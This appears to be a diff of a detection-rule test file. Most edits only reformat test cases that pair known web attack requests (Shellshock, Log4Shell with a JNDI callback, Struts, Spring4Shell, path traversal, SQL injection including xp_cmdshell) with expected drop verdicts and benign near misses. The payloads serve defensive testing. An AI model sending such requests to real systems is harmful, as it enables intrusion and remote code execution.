@@ -307,197 +307,237 @@ test "honest traffic" {
 }
 
 test "cmd.exe" {
-  packet { ipv4 tcp { dst_port 80 } payload "GET /scripts/CMD.EXE?/c+dir HTTP/1.0\r\n\r\n" }
-  packet { ipv6 tcp { dst_port 8005 } payload "HEAD /c/winnt/system32/cmd.exe?/c+dir HTTP/1.0\r\n\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /scripts/CMD.EXE?/c+dir HTTP/1.0\r\n\r\n" }
+  packet { ipv6  tcp { dst_port 8005 }  payload "HEAD /c/winnt/system32/cmd.exe?/c+dir HTTP/1.0\r\n\r\n" }
   expect iis_cmd_exe * 2, verdict drop
 }
 test "every method that asks for a path" {
-  packet { ipv4 tcp { dst_port 80 } payload "GET /cmd.exe HTTP/1.0\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "POST /cmd.exe HTTP/1.0\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "HEAD /cmd.exe HTTP/1.0\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "PUT /cmd.exe HTTP/1.0\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "OPTIONS /cmd.exe HTTP/1.0\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /cmd.exe HTTP/1.0\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "POST /cmd.exe HTTP/1.0\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "HEAD /cmd.exe HTTP/1.0\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "PUT /cmd.exe HTTP/1.0\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "OPTIONS /cmd.exe HTTP/1.0\r\n" }
   expect iis_cmd_exe * 5, verdict drop
 }
 test "not a request: what an upload goes on with, and other ports" {
-  packet { ipv4 tcp { dst_port 80 } payload "how to remove /scripts/cmd.exe, and GET /cmd.exe in a log" }
-  packet { ipv4 tcp { dst_port 8443 } payload "GET /default.ida?NNNNNNNNNNNNNNNNNNNNNNNN HTTP/1.0\r\n" }
-  packet { ipv4 tcp { dst_port 8443 } payload "GET /default.ida?XXXXXXXXXXXXXXXXXXXXXXXX HTTP/1.0\r\n" }
-  packet { ipv4 tcp { src_port 25  dst_port 50000 } payload "<script>window.open(\"readme.eml\", null)</script>" }
+  packet { ipv4  tcp { dst_port 80 }  payload "how to remove /scripts/cmd.exe, and GET /cmd.exe in a log" }
+  packet { ipv4  tcp { dst_port 8443 }  payload "GET /default.ida?NNNNNNNNNNNNNNNNNNNNNNNN HTTP/1.0\r\n" }
+  packet { ipv4  tcp { dst_port 8443 }  payload "GET /default.ida?XXXXXXXXXXXXXXXXXXXXXXXX HTTP/1.0\r\n" }
+  packet { ipv4  tcp { src_port 25  dst_port 50000 }  payload "<script>window.open(\"readme.eml\", null)</script>" }
   expect none
 }
 test "not cmd.exe: another page, another port, an answer, a name beyond the window" {
-  packet { ipv4 tcp { dst_port 80 } payload "GET /search?q=cmd+exe HTTP/1.1\r\n\r\n" }
-  packet { ipv4 tcp { dst_port 25 } payload "GET /scripts/cmd.exe HTTP/1.0\r\n\r\n" }
-  packet { ipv4 tcp { src_port 80  dst_port 50000 } payload "HTTP/1.1 200 OK\r\n\r\ncmd.exe" }
-  packet { ipv4 udp { dst_port 80 } payload "GET /scripts/cmd.exe HTTP/1.0\r\n\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /search?q=cmd+exe HTTP/1.1\r\n\r\n" }
+  packet { ipv4  tcp { dst_port 25 }  payload "GET /scripts/cmd.exe HTTP/1.0\r\n\r\n" }
+  packet { ipv4  tcp { src_port 80  dst_port 50000 }  payload "HTTP/1.1 200 OK\r\n\r\ncmd.exe" }
+  packet { ipv4  udp { dst_port 80 }  payload "GET /scripts/cmd.exe HTTP/1.0\r\n\r\n" }
   expect none
 }
 
 test "root.exe" {
-  packet { ipv4 tcp { dst_port 80 } payload "GET /scripts/root.exe?/c+dir HTTP/1.0\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET /MSADC/root.exe?/c+dir HTTP/1.0\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /scripts/root.exe?/c+dir HTTP/1.0\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /MSADC/root.exe?/c+dir HTTP/1.0\r\n" }
   expect iis_root_exe * 2, verdict drop
 }
 test "not root.exe: a page about it" {
-  packet { ipv4 tcp { dst_port 80 } payload "GET /docs/root.exe.html HTTP/1.0\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /docs/root.exe.html HTTP/1.0\r\n" }
   expect none
 }
 test "Code Red" {
-  packet { ipv4 tcp { dst_port 80 } payload "GET /default.ida?NNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNN%u9090%u6858 HTTP/1.0\r\n" }
+  packet {
+    ipv4
+    tcp { dst_port 80 }
+    payload "GET /default.ida?NNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNN%u9090%u6858 HTTP/1.0\r\n"
+  }
   expect code_red, verdict drop
 }
 test "Code Red II" {
-  packet { ipv4 tcp { dst_port 80 } payload "GET /default.ida?XXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXX%u9090%u6858 HTTP/1.0\r\n" }
+  packet {
+    ipv4
+    tcp { dst_port 80 }
+    payload "GET /default.ida?XXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXX%u9090%u6858 HTTP/1.0\r\n"
+  }
   expect code_red_ii, verdict drop
 }
 test "not Code Red: a query of the indexing service" {
-  packet { ipv4 tcp { dst_port 80 } payload "GET /default.ida?query=NNNN HTTP/1.0\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET /default.ida?XX HTTP/1.0\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /default.ida?query=NNNN HTTP/1.0\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /default.ida?XX HTTP/1.0\r\n" }
   expect none
 }
 test "a page of a server with Nimda" {
-  packet { ipv4 tcp { src_port 80  dst_port 50000 } payload "<script language=\"JavaScript\">window.open(\"readme.eml\", null, \"resizable=no\")</script>" }
+  packet {
+    ipv4
+    tcp { src_port 80  dst_port 50000 }
+    payload "<script language=\"JavaScript\">window.open(\"readme.eml\", null, \"resizable=no\")</script>"
+  }
   expect nimda_page, verdict drop
 }
 test "not Nimda's page: another window" {
-  packet { ipv4 tcp { src_port 80  dst_port 50000 } payload "<script>window.open(\"readme.html\")</script>" }
+  packet { ipv4  tcp { src_port 80  dst_port 50000 }  payload "<script>window.open(\"readme.html\")</script>" }
   expect none
 }
 
 test "overlong UTF-8" {
-  packet { ipv4 tcp { dst_port 80 } payload "GET /scripts/..%c0%af../winnt/ HTTP/1.0\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET /scripts/..%C1%9C../winnt/ HTTP/1.0\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET /scripts/..%c1%1c../winnt/ HTTP/1.0\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET /scripts/..%e0%80%af../winnt/ HTTP/1.0\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /scripts/..%c0%af../winnt/ HTTP/1.0\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /scripts/..%C1%9C../winnt/ HTTP/1.0\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /scripts/..%c1%1c../winnt/ HTTP/1.0\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /scripts/..%e0%80%af../winnt/ HTTP/1.0\r\n" }
   expect iis_unicode_traversal * 4, verdict drop
 }
 test "not overlong: UTF-8 as it should be" {
-  packet { ipv4 tcp { dst_port 80 } payload "GET /caf%c3%a9/..%c3%a9/ HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /caf%c3%a9/..%c3%a9/ HTTP/1.1\r\n" }
   expect none
 }
 test "decoded twice" {
-  packet { ipv4 tcp { dst_port 80 } payload "GET /scripts/..%255C../winnt/ HTTP/1.0\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET /scripts/..%252f../winnt/ HTTP/1.0\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET /scripts/..%%35c../winnt/ HTTP/1.0\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET /scripts/..%%35%63../winnt/ HTTP/1.0\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET /scripts/..%25%35%63../winnt/ HTTP/1.0\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /scripts/..%255C../winnt/ HTTP/1.0\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /scripts/..%252f../winnt/ HTTP/1.0\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /scripts/..%%35c../winnt/ HTTP/1.0\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /scripts/..%%35%63../winnt/ HTTP/1.0\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /scripts/..%25%35%63../winnt/ HTTP/1.0\r\n" }
   expect iis_double_decode * 5, verdict drop
 }
 test "not decoded twice: a percent sign" {
-  packet { ipv4 tcp { dst_port 80 } payload "GET /sale?discount=25%25&until=5 HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /sale?discount=25%25&until=5 HTTP/1.1\r\n" }
   expect none
 }
 test "steps up" {
-  packet { ipv4 tcp { dst_port 80 } payload "GET /show?file=../../../secret.txt HTTP/1.0\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET /show?file=..\\..\\..\\secret.txt HTTP/1.0\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /show?file=../../../secret.txt HTTP/1.0\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /show?file=..\\..\\..\\secret.txt HTTP/1.0\r\n" }
   expect web_traversal * 2, verdict drop
 }
 test "not steps up: a relative link, and a body" {
-  packet { ipv4 tcp { dst_port 80 } payload "GET /a/../b/ HTTP/1.1\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET /docs/../../index.html HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /a/../b/ HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /docs/../../index.html HTTP/1.1\r\n" }
   expect none
 }
 test "encoded steps up" {
-  packet { ipv4 tcp { dst_port 80 } payload "GET /cgi-bin/.%2e/.%2e/bin/sh HTTP/1.1\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET /x/%2E%2E/%2E%2E/ HTTP/1.1\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET /show?file=%2e%2e%2f%2e%2e%2fboot.ini HTTP/1.1\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET /show?file=..%2f..%2fboot.ini HTTP/1.1\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET /show?file=..%5C..%5Cboot.ini HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /cgi-bin/.%2e/.%2e/bin/sh HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /x/%2E%2E/%2E%2E/ HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /show?file=%2e%2e%2f%2e%2e%2fboot.ini HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /show?file=..%2f..%2fboot.ini HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /show?file=..%5C..%5Cboot.ini HTTP/1.1\r\n" }
   expect web_encoded_traversal * 5, verdict drop
 }
 test "not encoded steps up: dots and slashes in a form" {
-  packet { ipv4 tcp { dst_port 80 } payload "GET /search?q=wait%2e%2e%2e&next=%2fhome HTTP/1.1\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET /login?back=..%2fhome HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /search?q=wait%2e%2e%2e&next=%2fhome HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /login?back=..%2fhome HTTP/1.1\r\n" }
   expect none
 }
 test "the list of users" {
-  packet { ipv4 tcp { dst_port 80 } payload "GET /show?file=/etc/passwd HTTP/1.0\r\n" }
-  packet { ipv6 tcp { dst_port 8080 } payload "POST /cgi-bin/cat/etc/shadow HTTP/1.0\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /show?file=/etc/passwd HTTP/1.0\r\n" }
+  packet { ipv6  tcp { dst_port 8080 }  payload "POST /cgi-bin/cat/etc/shadow HTTP/1.0\r\n" }
   expect web_passwd * 2, verdict drop
 }
 test "not the list of users: a page about it, and a form" {
-  packet { ipv4 tcp { dst_port 80 } payload "GET /docs/passwd.html HTTP/1.1\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET /search?q=%2Fetc%2Fpasswd HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /docs/passwd.html HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /search?q=%2Fetc%2Fpasswd HTTP/1.1\r\n" }
   expect none
 }
 test "phf" {
-  packet { ipv4 tcp { dst_port 80 } payload "GET /cgi-bin/phf?Qalias=x%0A/bin/id HTTP/1.0\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /cgi-bin/phf?Qalias=x%0A/bin/id HTTP/1.0\r\n" }
   expect web_phf, verdict drop
 }
 test "not phf: its honest use, and a line feed in another form" {
-  packet { ipv4 tcp { dst_port 80 } payload "GET /cgi-bin/phf?Qalias=smith HTTP/1.0\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET /note?text=one%0d%0atwo HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /cgi-bin/phf?Qalias=smith HTTP/1.0\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /note?text=one%0d%0atwo HTTP/1.1\r\n" }
   expect none
 }
 test "a repository and settings" {
-  packet { ipv4 tcp { dst_port 80 } payload "GET /.git/config HTTP/1.1\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "HEAD /.env HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /.git/config HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "HEAD /.env HTTP/1.1\r\n" }
   expect web_secrets * 2, verdict drop
 }
 test "not secrets: what git asks for, a page about environments" {
-  packet { ipv4 tcp { dst_port 80 } payload "GET /project.git/info/refs?service=git-upload-pack HTTP/1.1\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET /docs/.env HTTP/1.1\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET /.environment HTTP/1.1\r\n" }
-  packet { ipv4 tcp { dst_port 25 } payload "GET /.env HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /project.git/info/refs?service=git-upload-pack HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /docs/.env HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /.environment HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 25 }  payload "GET /.env HTTP/1.1\r\n" }
   expect none
 }
 test "PHPUnit" {
-  packet { ipv4 tcp { dst_port 80 } payload "POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1\r\n\r\n<?php phpinfo();" }
+  packet {
+    ipv4
+    tcp { dst_port 80 }
+    payload "POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1\r\n\r\n<?php phpinfo();"
+  }
   expect phpunit_eval, verdict drop
 }
 test "not PHPUnit's hole: its manual" {
-  packet { ipv4 tcp { dst_port 80 } payload "GET /phpunit/manual.php HTTP/1.1\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET /tools/eval-stdin.php HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /phpunit/manual.php HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /tools/eval-stdin.php HTTP/1.1\r\n" }
   expect none
 }
 
 test "Shellshock" {
-  packet { ipv4 tcp { dst_port 80 } payload "GET /cgi-bin/status HTTP/1.1\r\nUser-Agent: () { :; }; /bin/id\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET /cgi-bin/status HTTP/1.1\r\nCookie:() { :; }; /bin/id\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /cgi-bin/status HTTP/1.1\r\nUser-Agent: () { :; }; /bin/id\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /cgi-bin/status HTTP/1.1\r\nCookie:() { :; }; /bin/id\r\n" }
   expect shellshock * 2, verdict drop
 }
 test "not Shellshock: a script, uploaded and fetched" {
-  packet { ipv4 tcp { dst_port 80 } payload "POST /scripts HTTP/1.1\r\nContent-Type: text/javascript\r\n\r\nwindow.onload = function () { run(); }" }
-  packet { ipv4 tcp { src_port 80  dst_port 50000 } payload "HTTP/1.1 200 OK\r\n\r\nhandlers = { open: () { } }" }
+  packet {
+    ipv4
+    tcp { dst_port 80 }
+    payload "POST /scripts HTTP/1.1\r\nContent-Type: text/javascript\r\n\r\nwindow.onload = function () { run(); }"
+  }
+  packet { ipv4  tcp { src_port 80  dst_port 50000 }  payload "HTTP/1.1 200 OK\r\n\r\nhandlers = { open: () { } }" }
   expect none
 }
 test "Log4Shell" {
-  packet { ipv4 tcp { dst_port 8080 } payload "GET / HTTP/1.1\r\nUser-Agent: ${jndi:ldap://192.0.2.9/a}\r\n" }
-  packet { ipv4 tcp { dst_port 8080 } payload "GET /?x=$%7Bjndi:ldap://192.0.2.9/a%7D HTTP/1.1\r\n" }
-  packet { ipv4 tcp { dst_port 8080 } payload "GET /?x=%24%7Bjndi%3Aldap%3A%2F%2F192.0.2.9%2Fa%7D HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 8080 }  payload "GET / HTTP/1.1\r\nUser-Agent: ${jndi:ldap://192.0.2.9/a}\r\n" }
+  packet { ipv4  tcp { dst_port 8080 }  payload "GET /?x=$%7Bjndi:ldap://192.0.2.9/a%7D HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 8080 }  payload "GET /?x=%24%7Bjndi%3Aldap%3A%2F%2F192.0.2.9%2Fa%7D HTTP/1.1\r\n" }
   expect log4shell * 3, verdict drop
 }
 test "not Log4Shell: another expression, and the word alone" {
-  packet { ipv4 tcp { dst_port 8080 } payload "GET /docs/jndi:ldap?theme=${dark} HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 8080 }  payload "GET /docs/jndi:ldap?theme=${dark} HTTP/1.1\r\n" }
   expect none
 }
 test "Struts" {
-  packet { ipv4 tcp { dst_port 8080 } payload "GET /start.action HTTP/1.1\r\nContent-Type: %{(#x='multipart/form-data').(#y)}\r\n" }
-  packet { ipv4 tcp { dst_port 8080 } payload "GET /start.action HTTP/1.1\r\nContent-Type:%{(#x='multipart/form-data').(#y)}\r\n" }
-  packet { ipv4 tcp { dst_port 8080 } payload "GET /start.action HTTP/1.1\r\ncontent-type: ${(#x='multipart/form-data').(#y)}\r\n" }
+  packet {
+    ipv4
+    tcp { dst_port 8080 }
+    payload "GET /start.action HTTP/1.1\r\nContent-Type: %{(#x='multipart/form-data').(#y)}\r\n"
+  }
+  packet {
+    ipv4
+    tcp { dst_port 8080 }
+    payload "GET /start.action HTTP/1.1\r\nContent-Type:%{(#x='multipart/form-data').(#y)}\r\n"
+  }
+  packet {
+    ipv4
+    tcp { dst_port 8080 }
+    payload "GET /start.action HTTP/1.1\r\ncontent-type: ${(#x='multipart/form-data').(#y)}\r\n"
+  }
   expect struts_content_type * 3, verdict drop
 }
 test "not Struts' hole: a form" {
-  packet { ipv4 tcp { dst_port 8080 } payload "POST /start.action HTTP/1.1\r\nContent-Type: multipart/form-data; boundary=%{x}\r\n" }
+  packet {
+    ipv4
+    tcp { dst_port 8080 }
+    payload "POST /start.action HTTP/1.1\r\nContent-Type: multipart/form-data; boundary=%{x}\r\n"
+  }
   expect none
 }
 test "Spring4Shell" {
-  packet { ipv4 tcp { dst_port 8080 } payload "POST /greet HTTP/1.1\r\n\r\nclass.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp" }
-  packet { ipv4 tcp { dst_port 8080 } payload "GET /greet?class%2Emodule%2EclassLoader%2Eresources=x HTTP/1.1\r\n" }
+  packet {
+    ipv4
+    tcp { dst_port 8080 }
+    payload "POST /greet HTTP/1.1\r\n\r\nclass.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp"
+  }
+  packet { ipv4  tcp { dst_port 8080 }  payload "GET /greet?class%2Emodule%2EclassLoader%2Eresources=x HTTP/1.1\r\n" }
   expect spring4shell * 2, verdict drop
 }
 test "not Spring4Shell: a form about classes" {
-  packet { ipv4 tcp { dst_port 8080 } payload "GET /greet?class.module=5&classLoader=system HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 8080 }  payload "GET /greet?class.module=5&classLoader=system HTTP/1.1\r\n" }
   expect none
 }
 test "a range to the end of numbers" {
-  packet { ipv4 tcp { dst_port 80 } payload "GET / HTTP/1.1\r\nRange: bytes=0-18446744073709551615\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET / HTTP/1.1\r\nRange: bytes=0-18446744073709551615\r\n" }
   expect http_sys_range, verdict drop
 }
 test "not to the end of numbers: an honest range, and the number elsewhere" {
-  packet { ipv4 tcp { dst_port 80 } payload "GET / HTTP/1.1\r\nRange: bytes=0-1023\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET /primes?to=2-18446744073709551615 HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET / HTTP/1.1\r\nRange: bytes=0-1023\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /primes?to=2-18446744073709551615 HTTP/1.1\r\n" }
   expect none
 }
 
@@ -521,17 +561,17 @@ signature sql_union {
   then     log, drop
 }
 test "a second question" {
-  packet { ipv4 tcp { dst_port 80 } payload "GET /item?id=1+UNION+SELECT+1,2 HTTP/1.1\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET /item?id=1%20union%20select%201 HTTP/1.1\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET /item?id=1+union+all+select+null HTTP/1.1\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET /item?id=1%20union%20all%20select%20null HTTP/1.1\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET /item?id=1/**/union/**/select/**/1 HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /item?id=1+UNION+SELECT+1,2 HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /item?id=1%20union%20select%201 HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /item?id=1+union+all+select+null HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /item?id=1%20union%20all%20select%20null HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /item?id=1/**/union/**/select/**/1 HTTP/1.1\r\n" }
   expect sql_union * 5, verdict drop
 }
 test "near miss: an election, a text, and mail" {
-  packet { ipv4 tcp { dst_port 80 } payload "GET /news?q=trade+union+elects+chair HTTP/1.1\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "POST /note HTTP/1.1\r\n\r\nwe union and select" }
-  packet { ipv4 tcp { dst_port 25 } payload "GET /item?id=1+union+select+1 HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /news?q=trade+union+elects+chair HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "POST /note HTTP/1.1\r\n\r\nwe union and select" }
+  packet { ipv4  tcp { dst_port 25 }  payload "GET /item?id=1+union+select+1 HTTP/1.1\r\n" }
   expect none
 }
 
@@ -555,19 +595,19 @@ signature sql_always_true {
   then     log, drop
 }
 test "eight ways to write it" {
-  packet { ipv4 tcp { dst_port 80 } payload "GET /login?u='+or+'1'='1 HTTP/1.1\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET /login?u='%20or%20'1'='1 HTTP/1.1\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET /login?u=%27+OR+%271%27%3D%271 HTTP/1.1\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET /login?u=%27%20or%20%271%27%3D%271 HTTP/1.1\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET /login?u='+or+1=1-- HTTP/1.1\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET /login?u='%20OR%201=1-- HTTP/1.1\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET /login?u=%27+or+1%3D1-- HTTP/1.1\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET /login?u=%27%20or%201%3D1-- HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /login?u='+or+'1'='1 HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /login?u='%20or%20'1'='1 HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /login?u=%27+OR+%271%27%3D%271 HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /login?u=%27%20or%20%271%27%3D%271 HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /login?u='+or+1=1-- HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /login?u='%20OR%201=1-- HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /login?u=%27+or+1%3D1-- HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /login?u=%27%20or%201%3D1-- HTTP/1.1\r\n" }
   expect sql_always_true * 8, verdict drop
 }
 test "near miss: rock and roll, and no quote" {
-  packet { ipv4 tcp { dst_port 80 } payload "GET /find?q=rock+%27n%27+roll+or+1+of+1 HTTP/1.1\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET /find?q=or+1=1 HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /find?q=rock+%27n%27+roll+or+1+of+1 HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /find?q=or+1=1 HTTP/1.1\r\n" }
   expect none
 }
 
@@ -588,16 +628,16 @@ signature sql_wait {
   then     log, drop
 }
 test "four databases" {
-  packet { ipv4 tcp { dst_port 80 } payload "GET /item?id=1;WAITFOR+DELAY+'0:0:5' HTTP/1.1\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET /item?id=1;waitfor%20delay%20'0:0:5' HTTP/1.1\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET /item?id=1;select+pg_sleep(5) HTTP/1.1\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET /item?id=1+and+benchmark(5000000,md5(1)) HTTP/1.1\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET /item?id=1+and+1=dbms_pipe.receive_message('a',5) HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /item?id=1;WAITFOR+DELAY+'0:0:5' HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /item?id=1;waitfor%20delay%20'0:0:5' HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /item?id=1;select+pg_sleep(5) HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /item?id=1+and+benchmark(5000000,md5(1)) HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /item?id=1+and+1=dbms_pipe.receive_message('a',5) HTTP/1.1\r\n" }
   expect sql_wait * 5, verdict drop
 }
 test "near miss: a word alone" {
-  packet { ipv4 tcp { dst_port 80 } payload "GET /wait?for=delay HTTP/1.1\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET /docs/benchmark.html HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /wait?for=delay HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /docs/benchmark.html HTTP/1.1\r\n" }
   expect none
 }
 
@@ -617,15 +657,19 @@ signature sql_schema {
   then     log, drop
 }
 test "tables of tables" {
-  packet { ipv4 tcp { dst_port 80 } payload "GET /item?id=1+and+(select+count(*)+from+information_schema.tables) HTTP/1.1\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET /item?id=1;exec+master..xp_cmdshell+'dir' HTTP/1.1\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET /item?id=1+and+(select+name+from+sysobjects+where+1) HTTP/1.1\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET /item?id=1+and+(select+sql+from+sqlite_master) HTTP/1.1\r\n" }
+  packet {
+    ipv4
+    tcp { dst_port 80 }
+    payload "GET /item?id=1+and+(select+count(*)+from+information_schema.tables) HTTP/1.1\r\n"
+  }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /item?id=1;exec+master..xp_cmdshell+'dir' HTTP/1.1\r\n" }
